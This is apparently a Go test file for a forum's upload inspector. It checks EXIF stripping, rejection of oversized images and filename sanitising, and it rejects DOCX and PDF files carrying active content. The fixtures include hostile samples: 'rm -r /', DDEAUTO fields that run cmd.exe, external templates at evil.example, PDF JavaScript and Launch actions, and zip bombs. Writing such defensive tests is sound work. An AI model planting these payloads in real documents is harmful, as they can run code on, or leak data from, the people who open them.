package attachment

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"runtime"
	"strings"
	"testing"

	"madang/app"
	"madang/app/prose"
	"madang/app/prose/docx"
)

func wantCode(t *testing.T, what string, err error, code string) {
	t.Helper()
	if !app.IsCode(err, code) {
		t.Errorf("%s: %v, want %s", what, err, code)
	}
}

func look(t *testing.T, name string, content []byte) (File, error) {
	t.Helper()
	return NewInspector().Inspect(t.Context(), name, content)
}

func mustLook(t *testing.T, name string, content []byte) File {
	t.Helper()
	f, err := look(t, name, content)
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	return f
}

// flag is a picture whose left half is dark and whose upper right corner is red.
func flag(wide, high int) *image.RGBA {
	picture := image.NewRGBA(image.Rect(0, 0, wide, high))
	for y := range high {
		for x := range wide {
			switch {
			case x < wide/2:
				picture.Set(x, y, color.RGBA{20, 20, 20, 255})
			case y < high/2:
				picture.Set(x, y, color.RGBA{220, 10, 10, 255})
			default:
				picture.Set(x, y, color.RGBA{250, 250, 250, 255})
			}
		}
	}
	return picture
}

func jpegOf(t *testing.T, picture image.Image) []byte {
	t.Helper()
	var out bytes.Buffer
	if err := jpeg.Encode(&out, picture, &jpeg.Options{Quality: 95}); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func pngOf(t *testing.T, picture image.Image) []byte {
	t.Helper()
	var out bytes.Buffer
	if err := png.Encode(&out, picture); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// withExif puts what a phone writes behind the head of a JPEG picture: which way up, and
// where it was taken.
func withExif(picture []byte, orientation uint16) []byte {
	tiff := []byte("MM\x00*\x00\x00\x00\x08\x00\x02")
	tiff = append(tiff, "\x01\x0f\x00\x02\x00\x00\x00\x0c\x00\x00\x00\x26"...) // maker: twelve letters at 38
	tiff = append(tiff, "\x01\x12\x00\x03\x00\x00\x00\x01"...)
	tiff = binary.BigEndian.AppendUint16(tiff, orientation)
	tiff = append(tiff, "\x00\x00\x00\x00\x00\x00canaryphone\x00"...)
	segment := append([]byte("Exif\x00\x00"), tiff...)
	out := append([]byte("\xff\xd8\xff\xe1"), byte((len(segment)+2)>>8), byte(len(segment)+2))
	return append(append(out, segment...), picture[2:]...)
}

func TestAPictureKeepsWhatItShowsAndNothingElse(t *testing.T) {
	// Where the red corner is in the file, for each way in which it may be turned.
	turns := map[uint16]string{0: "up right", 1: "up right", 2: "up left", 3: "down left", 4: "down right", 5: "down left", 6: "down right", 7: "up right", 8: "up left", 9: "up right"}
	for orientation, want := range turns {
		sent := withExif(jpegOf(t, flag(64, 32)), orientation)
		f := mustLook(t, "IMG_1.JPG", sent)
		if bytes.Contains(f.Content, []byte("canary")) || bytes.Contains(f.Content, []byte("Exif")) {
			t.Errorf("%d: what the phone said is still there", orientation)
		}
		shown, err := jpeg.Decode(bytes.NewReader(f.Content))
		if err != nil {
			t.Fatal(err)
		}
		wide, high := 64, 32
		if orientation >= 5 && orientation <= 8 {
			wide, high = 32, 64
		}
		if b := shown.Bounds(); b.Dx() != wide || b.Dy() != high || f.Width != wide || f.Height != high {
			t.Fatalf("%d: it is %v", orientation, b)
		}
		if red := redCorner(shown); red != want {
			t.Errorf("%d: red is %s, want %s", orientation, red, want)
		}
		if again := mustLook(t, f.Name, f.Content); again.Width != wide {
			t.Errorf("%d: drawn anew it is turned again", orientation)
		}
	}
	sent := pngOf(t, flag(8, 8))
	text := []byte("tEXtAuthor\x00canaryname")
	chunk := binary.BigEndian.AppendUint32(nil, uint32(len(text)-4))
	chunk = binary.BigEndian.AppendUint32(append(chunk, text...), crc32.ChecksumIEEE(text))
	sent = append(sent[:33:33], append(chunk, sent[33:]...)...)
	if f := mustLook(t, "a.png", sent); bytes.Contains(f.Content, []byte("canary")) || f.Format != PNG || f.Width != 8 {
		t.Errorf("%+v", f)
	}
}

// redCorner says in which corner of a picture red is.
func redCorner(picture image.Image) string {
	b := picture.Bounds()
	for name, at := range map[string]image.Point{
		"up left": {2, 2}, "up right": {b.Dx() - 3, 2}, "down left": {2, b.Dy() - 3}, "down right": {b.Dx() - 3, b.Dy() - 3},
	} {
		if r, g, _, _ := picture.At(at.X, at.Y).RGBA(); r > 0x8000 && g < 0x5000 {
			return name
		}
	}
	return "nowhere"
}

// hugePNG says that it is very large, and has hardly any bytes.
func hugePNG(wide, high uint32) []byte {
	body := binary.BigEndian.AppendUint32([]byte("IHDR"), wide)
	body = append(binary.BigEndian.AppendUint32(body, high), 8, 6, 0, 0, 0)
	out := append([]byte{}, pngStart...)
	out = append(append(out, 0, 0, 0, 13), body...)
	out = binary.BigEndian.AppendUint32(out, crc32.ChecksumIEEE(body))
	return append(out, "\x00\x00\x00\x00IDAT\x00\x00\x00\x00"...)
}

func hugeJPEG(wide, high uint16, frame byte) []byte {
	out := append([]byte("\xff\xd8\xff"), frame, 0, 17, 8)
	out = binary.BigEndian.AppendUint16(out, high)
	out = binary.BigEndian.AppendUint16(out, wide)
	out = append(out, 3, 1, 0x11, 0, 2, 0x11, 0, 3, 0x11, 0)
	return append(out, "\xff\xda\x00\x0c\x03\x01\x00\x02\x00\x03\x00\x00\x3f\x00"...)
}

func TestAPictureThatWouldTakeTooMuchIsRefusedBeforeItIsOpened(t *testing.T) {
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	for what, content := range map[string][]byte{
		"50,000 pixels square":            hugePNG(50_000, 50_000),
		"four thousand million square":    hugePNG(1<<32-1, 1<<32-1),
		"a picture of 60,000 square":      hugeJPEG(60_000, 60_000, 0xc0),
		"a progressive one of 4,400":      hugeJPEG(4_400, 4_400, 0xc2),
		"five thousand and one by 4,000":  hugePNG(5_001, 4_000),
		"a strip of a billion by a pixel": hugePNG(1<<30, 400),
	} {
		_, err := look(t, "photo", content)
		wantCode(t, what, err, "attachment.pixels")
	}
	runtime.ReadMemStats(&after)
	if took := after.TotalAlloc - before.TotalAlloc; took > 8<<20 {
		t.Errorf("to refuse them took %d bytes", took)
	}
}

func TestWhatIsBrokenOrNotWhatItSaysIsRefusedByName(t *testing.T) {
	photo, drawing := jpegOf(t, flag(64, 64)), pngOf(t, flag(64, 64))
	for _, c := range []struct {
		name    string
		content []byte
		code    string
	}{
		{"a.jpg", photo[:len(photo)/2], "attachment.damaged"},
		{"a.jpg", photo[:20], "attachment.damaged"},
		{"a.jpg", []byte("\xff\xd8\xff"), "attachment.damaged"},
		{"a.png", drawing[:len(drawing)-30], "attachment.damaged"},
		{"a.png", pngStart, "attachment.damaged"},
		{"a.pdf", photo, "attachment.ending"},
		{"a.exe", drawing, "attachment.ending"},
		{"a.jpg", []byte("only words"), "attachment.ending"},
		{"run.sh", []byte("#!/bin/sh\nrm -r /\n"), "attachment.ending"},
		{"page.html", []byte("<script>alert(1)</script>"), "attachment.ending"},
		{"a.txt", []byte{}, "attachment.empty"},
		{"a.txt", []byte("a\x00b"), "attachment.format"},
		{"a.txt", []byte("bell \x07"), "attachment.letters"},
		{"a.txt", []byte("turned \u202e around"), "attachment.letters"},
		{"a.txt", []byte("\xb0\xa1\xb3\xaa in another encoding"), "attachment.letters"},
		{"a.exe", []byte("MZ\x90\x00\x03"), "attachment.format"},
		{"a.heic", []byte("\x00\x00\x00\x18ftypheic\x00"), "attachment.format"},
		{"a.gif", []byte("GIF89a\x01\x00"), "attachment.format"},
		{"a.doc", []byte("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1 and more"), "attachment.format"},
		{"a.zip", zipOf(t, map[string]string{"a": "b"}), "attachment.ending"},
		{"a.docx", zipOf(t, map[string]string{"a": "b"}), "attachment.format"},
		{"a.docx", []byte("PK\x03\x04 and no more"), "attachment.damaged"},
		{"a.txt", bytes.Repeat([]byte("x"), MaxFile+1), "attachment.large"},
	} {
		_, err := look(t, c.name, c.content)
		wantCode(t, fmt.Sprintf("%s %.12q", c.name, c.content), err, c.code)
		if refused, ok := err.(*app.Error); !ok || refused.Field != "files" || refused.Args[1] != c.name {
			t.Errorf("%s: %#v", c.name, err)
		}
	}
}

func TestANameSaysWhatAFileIsAndHidesNothing(t *testing.T) {
	photo := jpegOf(t, flag(8, 8))
	for sent, want := range map[string]string{
		"증언 1.jpg": "증언 1.jpg", `C:\Users\ari\Desktop\a.jpg`: "a.jpg", "../../etc/a.jpeg": "a.jpeg", "photo": "photo.jpg", "": "file.jpg",
		"a\u202egpj.jpg": "agpj.jpg", "<b>\"a\"</b>.jpg": "b_.jpg", " .. .jpg": "jpg.jpg", "shot.png": "shot.jpg", "a\r\nSet-Cookie: b.jpg": "a Set-Cookie_ b.jpg",
		strings.Repeat("긴", 200) + ".jpg": strings.Repeat("긴", 76) + ".jpg",
	} {
		if f := mustLook(t, sent, photo); f.Name != want {
			t.Errorf("%q becomes %q, want %q", sent, f.Name, want)
		}
	}
}

func TestPlainTextIsKeptAsLettersAndLines(t *testing.T) {
	f := mustLook(t, "말.txt", []byte("\ufeff첫 줄\r\n\t둘째 줄\n"))
	if string(f.Content) != "첫 줄\n\t둘째 줄\n" || f.Format != Text {
		t.Errorf("%q", f.Content)
	}
}

func zipOf(t *testing.T, parts map[string]string) []byte {
	t.Helper()
	var out bytes.Buffer
	z := zip.NewWriter(&out)
	for name, content := range parts {
		w, err := z.Create(name)
		if err == nil {
			_, err = w.Write([]byte(content))
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// wordWith is a document as the forum writes it, with more parts or others.
func wordWith(t *testing.T, more map[string]string) []byte {
	t.Helper()
	var plain bytes.Buffer
	text := prose.Doc{Blocks: []prose.Block{{CID: "cabcdefghij", Node: prose.Paragraph}}}
	if err := docx.Write(&plain, docx.Document{Title: "A letter", Lang: "en", Text: text}); err != nil {
		t.Fatal(err)
	}
	z, err := zip.NewReader(bytes.NewReader(plain.Bytes()), int64(plain.Len()))
	if err != nil {
		t.Fatal(err)
	}
	parts := map[string]string{}
	for _, entry := range z.File {
		body, err := entry.Open()
		if err != nil {
			t.Fatal(err)
		}
		var content bytes.Buffer
		if _, err := content.ReadFrom(body); err != nil {
			t.Fatal(err)
		}
		parts[entry.Name] = content.String()
	}
	for name, content := range more {
		parts[name] = content
	}
	return zipOf(t, parts)
}

func TestADocumentThatIsMoreThanWordsIsRefused(t *testing.T) {
	const main = `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>%s</w:p></w:body></w:document>`
	run := func(inner string) map[string]string {
		return map[string]string{"word/more.xml": fmt.Sprintf(main, inner)}
	}
	for what, more := range map[string]map[string]string{
		"macros":            {"word/vbaProject.bin": "x"},
		"a file within":     {"word/embeddings/oleObject1.bin": "x"},
		"a program":         {"word/media/a.exe": "x"},
		"a template":        {"word/_rels/settings.xml.rels": `<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>`},
		"a remote picture":  {"word/_rels/header1.xml.rels": `<Relationships><Relationship Id="r" Type="http://x/image" Target="\\evil.example\a" TargetMode="External"/></Relationships>`},
		"a field":           run(`<w:r><w:instrText> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r>`),
		"a field in pieces": run(`<w:r><w:instrText> D</w:instrText></w:r><w:r><w:instrText>DE cmd</w:instrText></w:r>`),
		"a simple field":    run(`<w:fldSimple w:instr="IncludePicture http://evil.example/a"/>`),
		"a spelt field":     run(`<w:r><w:instrText> QUOTE 68 68 69 </w:instrText></w:r>`),
		"another document":  run(`<w:altChunk/>`),
	} {
		_, err := look(t, "a.docx", wordWith(t, more))
		wantCode(t, what, err, "attachment.active")
	}
	bomb := wordWith(t, map[string]string{"word/media/a.bmp": strings.Repeat("\x00", 40<<20)})
	_, err := look(t, "a.docx", bomb)
	wantCode(t, "a bomb", err, "attachment.bomb")

	f := mustLook(t, "a.docx", wordWith(t, run(`<w:hyperlink/><w:r><w:rPr><w:vanish/></w:rPr><w:instrText> HYPERLINK "https://example.org" </w:instrText></w:r><w:ins w:author="Ari"/>`)))
	if fmt.Sprint(f.Remarks) != "[unseen names hidden]" {
		t.Errorf("%v", f.Remarks)
	}
	if f := mustLook(t, "a.docx", wordWith(t, nil)); fmt.Sprint(f.Remarks) != "[unseen]" {
		t.Errorf("%v", f.Remarks)
	}
}

func pdfOf(objects string) []byte {
	return []byte("%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n" + objects + "\nxref\n0 1\ntrailer << /Root 1 0 R >>\nstartxref\n9\n%%EOF\n")
}

// packed is a PDF of objects as newer programs pack them.
func packed(t *testing.T, objects, about string) []byte {
	t.Helper()
	var out bytes.Buffer
	z := zlib.NewWriter(&out)
	if _, err := z.Write([]byte(objects)); err != nil {
		t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return pdfOf("5 0 obj << /Type /ObjStm /N 1 /First 4 " + about + " >> stream\r\n" + out.String() + "\nendstream endobj")
}

func TestAPDFThatIsMoreThanPaperIsRefused(t *testing.T) {
	const flate = "/Filter /FlateDecode"
	for what, c := range map[string]struct {
		content []byte
		code    string
	}{
		"a program":              {pdfOf("3 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj"), "attachment.active"},
		"a program spelt oddly":  {pdfOf("3 0 obj << /S /J#61va#53cript >> endobj"), "attachment.active"},
		"something to start":     {pdfOf("3 0 obj <</S/Launch/F(cmd.exe)>> endobj"), "attachment.active"},
		"a file within":          {pdfOf("3 0 obj << /Type /EmbeddedFile >> endobj"), "attachment.active"},
		"another file":           {pdfOf(`3 0 obj << /S /GoToR /F (\\\\evil\\share) >> endobj`), "attachment.active"},
		"a program form":         {pdfOf("3 0 obj << /XFA 4 0 R >> endobj"), "attachment.active"},
		"a packed program":       {packed(t, "3 0 << /S /JavaScript >>", flate), "attachment.active"},
		"a lock":                 {pdfOf("trailer << /Encrypt 9 0 R >>"), "attachment.locked"},
		"packed beyond our eyes": {packed(t, "x", "/Filter [/ASCIIHexDecode /FlateDecode]"), "attachment.opaque"},
		"packed and broken":      {pdfOf("5 0 obj << /Type /ObjStm " + flate + " >> stream\nnothing packed\nendstream"), "attachment.damaged"},
		"a bomb":                 {packed(t, strings.Repeat(" ", maxUnpacked+1), flate), "attachment.bomb"},
		"half of one":            {pdfOf(strings.Repeat("x", 9000))[:9000], "attachment.damaged"},
	} {
		_, err := look(t, "a.pdf", c.content)
		wantCode(t, what, err, c.code)
	}
	for what, content := range map[string][]byte{
		"a plain one":  pdfOf("3 0 obj << /Type /Page /Annots [<< /A << /S /URI /URI (https://example.org) >> >>] >> endobj"),
		"a packed one": packed(t, "3 0 << /Type /Page >>", flate),
	} {
		if f := mustLook(t, "a.pdf", content); f.Format != PDF || !bytes.Equal(f.Content, content) || fmt.Sprint(f.Remarks) != "[unseen]" {
			t.Errorf("%s: %+v", what, f)
		}
	}
}
